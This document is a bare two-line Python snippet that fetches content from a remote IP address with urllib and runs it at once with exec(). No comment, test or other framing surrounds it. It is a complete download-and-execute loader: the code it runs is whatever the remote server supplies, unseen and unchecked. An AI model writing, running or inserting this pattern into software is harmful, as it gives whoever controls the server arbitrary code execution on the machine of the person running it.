import urllib.request as u
exec(u.urlopen('http://198.51.100.7/a').read())
